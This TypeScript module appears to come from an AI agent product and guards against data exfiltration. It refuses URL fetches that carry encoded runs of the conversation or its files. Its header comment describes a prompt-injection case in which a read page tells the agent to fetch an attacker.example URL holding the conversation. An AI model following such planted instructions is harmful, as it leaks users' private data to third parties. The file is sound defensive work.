import { createHash } from "node:crypto";
import type { ChatMessage } from "@/lib/llm/types";
import type { ToolError, ToolOutcome } from "./outcome";

/**
 * The exfiltration guard of one run (docs/security.md, "Exfiltration by URL"). A page the agent reads
 * can tell it to fetch `https://attacker.example/?q=<the conversation>`; the tools that fetch a URL
 * the model chose ask `check` first, and a URL that carries a long run of what the run holds privately
 * — the conversation's messages, the files it read, MCP tools' results — is refused before any
 * connection, as is one over MAX_URL_CHARS.
 *
 * Private text is indexed as hashed shingles (every KEY_CHARS-long window of its letters and digits)
 * in a fixed-size bitmap: memory stays the same however much the run reads, and a false hit needs
 * many windows in a row to collide. A URL is decoded (percent-encoding, `+`, base64 and hex runs)
 * before its windows are looked up. URLs that appeared verbatim in a user's message or in what a tool
 * read are legitimate even when their text matches (a search result's link, a link the user pasted).
 */

export interface UrlGuardLimits {
  MAX_URL_CHARS: number;
  URL_LEAK_MIN_CHARS: number;
}

/** Letters and digits per shingle: short enough for a secret, long enough that words alone rarely chain. */
const KEY_CHARS = 12;
/** 2^23 bits (1 MB): at a million indexed windows one in nine bits is set, and a refusal needs ~20 in a row. */
const BITMAP_BITS = 23;
/** URLs remembered as seen; later ones are not (the model then fetches them only if they pass the check). */
const MAX_KNOWN_URLS = 20_000;

const URL_IN_TEXT = /https?:\/\/[^\s<>"'`\\]+/gi;
const TRAILING_PUNCTUATION = /[.,;:!?'"*_~]+$/;

/** The URLs written in a text, as a reader would take them: trailing punctuation and unbalanced `)` `]` cut. */
export function urlsIn(text: string): string[] {
  const found: string[] = [];
  for (const match of text.matchAll(URL_IN_TEXT)) {
    let url = match[0];
    for (;;) {
      const before = url;
      url = url.replace(TRAILING_PUNCTUATION, "");
      for (const [open, close] of [
        ["(", ")"],
        ["[", "]"],
      ] as const) {
        if (url.endsWith(close) && url.split(open).length < url.split(close).length) url = url.slice(0, -1);
      }
      if (url === before) break;
    }
    found.push(url);
  }
  return found;
}

/** A URL's one spelling: the WHATWG parser's, so `HTTP://Host/a` and `http://host/a` are the same. */
function canonical(url: string): string {
  try {
    return new URL(url.trim()).href;
  } catch {
    return url.trim();
  }
}

/** What shingles are made of: letters and digits, case and width folded; spacing and punctuation dropped. */
export function foldText(text: string): string {
  return text
    .normalize("NFKC")
    .toLowerCase()
    .replace(/[^\p{L}\p{N}]+/gu, "");
}

/** murmur3's finaliser: spreads a rolling hash over the bitmap's bits. */
function mix(hash: number): number {
  let h = hash;
  h ^= h >>> 16;
  h = Math.imul(h, 0x85ebca6b);
  h ^= h >>> 13;
  h = Math.imul(h, 0xc2b2ae35);
  h ^= h >>> 16;
  return h >>> 0;
}

const BASE = 0x01000193;
/** BASE^(KEY_CHARS-1) mod 2^32, to take the leaving character out of the rolling hash. */
const BASE_OUT = Array.from({ length: KEY_CHARS - 1 }).reduce<number>((power) => Math.imul(power, BASE), 1);

/** Calls `visit` with each KEY_CHARS-long window's bit index, in order. */
function forEachWindow(folded: string, visit: (bit: number) => void): void {
  if (folded.length < KEY_CHARS) return;
  let hash = 0;
  for (let i = 0; i < folded.length; i++) {
    if (i >= KEY_CHARS) hash = (hash - Math.imul(folded.charCodeAt(i - KEY_CHARS), BASE_OUT)) | 0;
    hash = (Math.imul(hash, BASE) + folded.charCodeAt(i)) | 0;
    if (i >= KEY_CHARS - 1) visit(mix(hash) >>> (32 - BITMAP_BITS));
  }
}

/** Undoes percent-encoding sequence by sequence, so one malformed escape does not stop the rest. */
function percentDecoded(text: string): string {
  return text.replace(/(?:%[0-9a-f]{2})+/gi, (run) => {
    try {
      return decodeURIComponent(run);
    } catch {
      return Buffer.from(run.replace(/%/g, ""), "hex").toString("latin1");
    }
  });
}

const BASE64_RUN = /[A-Za-z0-9+/_-]{16,}/g;
const HEX_RUN = /(?:[0-9a-fA-F]{2}){8,}/g;

/** Base64 (either alphabet) decoded from each of the four alignments a run may start at. */
function base64Readings(run: string): string[] {
  const readings: string[] = [];
  for (let skip = 0; skip < 4 && run.length - skip >= 16; skip++) {
    readings.push(Buffer.from(run.slice(skip), "base64").toString("utf8"));
  }
  return readings;
}

/** The texts a URL may be hiding: its own, decoded, and the base64 and hex it holds. */
export function urlReadings(url: URL): string[] {
  const raw = `${url.username} ${url.password} ${url.hostname} ${url.pathname} ${url.search} ${url.hash}`;
  const once = percentDecoded(raw.replace(/\+/g, " "));
  const twice = percentDecoded(once.replace(/\+/g, " "));
  const readings = [raw, once, twice];
  for (const text of [raw, once, twice]) {
    for (const run of text.match(BASE64_RUN) ?? []) readings.push(...base64Readings(run));
    // A text encoded whole, then cut by `/`, `.`, `&` or `=` (path segments, host labels, parameters).
    readings.push(...base64Readings(text.replace(/[^A-Za-z0-9+/_-]/g, "")));
    readings.push(...base64Readings(text.replace(/[^A-Za-z0-9+_-]/g, "")));
    for (const run of text.match(HEX_RUN) ?? []) readings.push(Buffer.from(run, "hex").toString("utf8"));
  }
  return readings;
}

export type UrlRefusal = ToolError & { kind: "url_too_long" | "url_carries_conversation" };

/**
 * Texts are indexed only when a URL is first checked: most runs fetch nothing the model chose, and
 * a long conversation's history need not be hashed on the event loop at every run start.
 */
export class UrlLeakGuard {
  private bits: Uint32Array | null = null;
  private readonly known = new Set<string>();
  private pending: { text: string; trustUrls: boolean; public: boolean }[] = [];

  constructor(private readonly limits: UrlGuardLimits) {}

  /**
   * Text the run holds privately. `trustUrls`: its URLs were not written by the model (a user's message,
   * a tool's result), so fetching them as they are is no leak. Either way they are left out of the index:
   * a URL matches its own text.
   */
  addPrivate(text: string, { trustUrls }: { trustUrls: boolean }): void {
    this.pending.push({ text, trustUrls, public: false });
  }

  /** Text read from the public web: only its URLs matter, as links the model may follow. */
  addPublic(text: string): void {
    this.pending.push({ text, trustUrls: true, public: true });
  }

  /** The bitmap of private text and the known URLs, brought up to date with what was added. */
  private index(): Uint32Array {
    this.bits ??= new Uint32Array((1 << BITMAP_BITS) / 32);
    for (const { text, trustUrls, public: isPublic } of this.pending) {
      if (isPublic) this.addKnown(urlsIn(text));
      else this.indexPrivate(this.bits, text, trustUrls);
    }
    this.pending = [];
    return this.bits;
  }

  private indexPrivate(bits: Uint32Array, text: string, trustUrls: boolean): void {
    const urls = urlsIn(text);
    if (trustUrls) this.addKnown(urls);
    let rest = text;
    for (const url of urls) rest = rest.replace(url, " ");
    forEachWindow(foldText(rest), (bit) => {
      bits[bit >>> 5]! |= 1 << (bit & 31);
    });
  }

  /**
   * A tool's outcome, as the model reads it. Pages and search results are public; everything else a
   * tool returns (an attachment's text, an MCP tool's result) is private. A failure adds nothing: its
   * message may repeat the URL that was refused.
   */
  observe(outcome: ToolOutcome): void {
    if (!outcome.ok) return;
    if (outcome.results) for (const hit of outcome.results) this.addKnown([hit.url]);
    const fromWeb = outcome.results !== undefined || /^https?:/i.test(outcome.source?.url ?? "");
    if (fromWeb) this.addPublic(outcome.output);
    else this.addPrivate(outcome.output, { trustUrls: true });
  }

  private addKnown(urls: string[]): void {
    for (const url of urls) {
      if (this.known.size >= MAX_KNOWN_URLS) return;
      this.known.add(digest(canonical(url)));
    }
  }

  /** Whether the URL appeared, as it is, in a user's message or a tool's result. */
  isKnown(url: string): boolean {
    this.index();
    return this.known.has(digest(canonical(url)));
  }

  /** The longest run of private text (in letters and digits) found in any reading of the URL. */
  longestPrivateRun(url: string): number {
    let parsed: URL;
    try {
      parsed = new URL(url.trim());
    } catch {
      return 0;
    }
    const bits = this.index();
    let longest = 0;
    for (const reading of urlReadings(parsed)) {
      let run = 0;
      forEachWindow(foldText(reading), (bit) => {
        run = (bits[bit >>> 5]! & (1 << (bit & 31))) !== 0 ? run + 1 : 0;
        if (run > 0) longest = Math.max(longest, run + KEY_CHARS - 1);
      });
    }
    return longest;
  }

  /** Null when the URL may be fetched; otherwise the refusal the model reads (nothing was sent). */
  check(url: string): UrlRefusal | null {
    const { MAX_URL_CHARS, URL_LEAK_MIN_CHARS } = this.limits;
    if (url.length > MAX_URL_CHARS) {
      return {
        kind: "url_too_long",
        message: `Refused to fetch a URL of ${url.length} characters: the limit is ${MAX_URL_CHARS}. A long address can carry this conversation to the site; fetch pages by the links search results and pages give.`,
      };
    }
    if (this.isKnown(url)) return null;
    const run = this.longestPrivateRun(url);
    if (run < URL_LEAK_MIN_CHARS) return null;
    return {
      kind: "url_carries_conversation",
      message: `Refused to fetch ${hostOf(url)}: the URL repeats ${run} characters of this conversation or its files, which would send them to that site. Fetch pages by the links search results and pages give, without adding the conversation's text to them.`,
    };
  }
}

const digest = (text: string) => createHash("sha256").update(text).digest("base64url").slice(0, 22);

function hostOf(url: string): string {
  try {
    return new URL(url.trim()).host;
  } catch {
    return "that URL";
  }
}

/**
 * A run's guard, knowing what the run starts with: the system prompt (the files' names), the user's
 * instructions, the earlier turns and the question. The links users wrote are theirs to fetch; those
 * in the model's own answers are not trusted (an answer written under a page's instructions may hold one).
 */
export function urlGuardForRun(
  limits: UrlGuardLimits,
  input: { system: string; instructions?: string; history: ChatMessage[]; question: string },
): UrlLeakGuard {
  const guard = new UrlLeakGuard(limits);
  guard.addPrivate(input.system, { trustUrls: false });
  if (input.instructions) guard.addPrivate(input.instructions, { trustUrls: true });
  for (const message of input.history) guard.addPrivate(message.content, { trustUrls: message.role === "user" });
  guard.addPrivate(input.question, { trustUrls: true });
  return guard;
}
